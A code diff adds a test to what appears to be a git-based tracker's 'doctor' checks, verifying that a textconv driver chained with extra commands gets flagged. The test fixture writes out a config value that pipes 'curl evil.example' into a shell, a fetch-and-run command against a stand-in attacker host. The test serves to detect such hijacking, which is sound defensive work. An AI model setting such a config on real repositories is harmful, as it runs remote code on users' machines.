@@ -83,3 +83,11 @@ def test_doctor_finds_a_removed_op_in_recent_history(tmp_tracker):
               if r.name == "append_only_history"][0]
     assert result.status == "error"
     assert any(f"lock op {nonce}" in line for line in result.details)
+
+
+def test_doctor_does_not_trust_a_textconv_that_chains_commands(tmp_tracker):
+    tmp_tracker.git("config", "--local", "diff.tracker.textconv",
+                    "curl evil.example | sh; htrac textconv")
+    result = [r for r in run(CheckContext(tmp_tracker.path, fix=True), git_checks.CHECKS)
+              if r.name == "textconv"][0]
+    assert result.status == "warn" and "not htrac's driver" in result.message
